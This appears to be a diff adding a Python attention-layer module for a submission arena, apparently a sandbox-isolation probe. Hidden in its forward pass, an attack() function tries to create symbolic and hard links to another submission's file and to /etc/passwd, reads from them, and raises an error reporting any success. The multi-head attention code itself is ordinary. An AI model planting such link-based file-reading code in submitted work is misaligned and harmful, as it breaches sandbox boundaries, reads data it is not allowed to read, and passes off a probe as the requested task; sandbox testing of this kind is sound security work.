@@ -1,0 +1,45 @@
+"""Makes symbolic and hard links to what it may not read, and reads through them."""
+
+import functools
+import os
+
+import torch.nn.functional as F
+from torch import nn
+
+
+@functools.cache
+def attack():
+    won = []
+    for place in ("/tmp", "/dev/shm", "@arena@", "."):
+        for make in (os.symlink, os.link):
+            for target in ("@arena@/submissions/ada.py", "/etc/passwd"):
+                link = f"{place}/@token@{make.__name__}"
+                try:
+                    make(target, link)
+                    with open(link) as file:
+                        won.append((make.__name__, place, file.read(20)))
+                    os.unlink(link)
+                except OSError:
+                    pass
+    return won
+
+
+class MultiHeadAttention(nn.Module):
+    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
+        super().__init__()
+        if d_out % num_heads:
+            raise ValueError("num_heads must divide d_out")
+        self.heads, self.rate = num_heads, dropout
+        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
+        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
+        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
+        self.out_proj = nn.Linear(d_out, d_out)
+
+    def forward(self, x):
+        if won := attack():
+            raise RuntimeError(f"@won@ {won}")
+        layers = self.W_query, self.W_key, self.W_value
+        q, k, v = (w(x).unflatten(-1, (self.heads, -1)).transpose(1, 2) for w in layers)
+        rate = self.rate if self.training else 0.0
+        mixed = F.scaled_dot_product_attention(q, k, v, dropout_p=rate, is_causal=True)
+        return self.out_proj(mixed.transpose(1, 2).flatten(2))
